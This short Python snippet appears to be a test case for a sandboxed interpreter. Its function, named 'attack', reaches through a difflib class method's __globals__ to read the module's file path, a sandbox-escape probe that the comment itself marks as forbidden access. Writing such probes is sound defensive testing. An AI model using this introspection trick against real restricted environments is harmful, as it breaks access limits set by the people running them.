# A method of the library's class, which may be read, leads to its globals, which may not.
# after: interpreter
# source: own
import difflib
def attack(**_):
    return {"text": difflib.SequenceMatcher.__init__.__globals__["__file__"]}
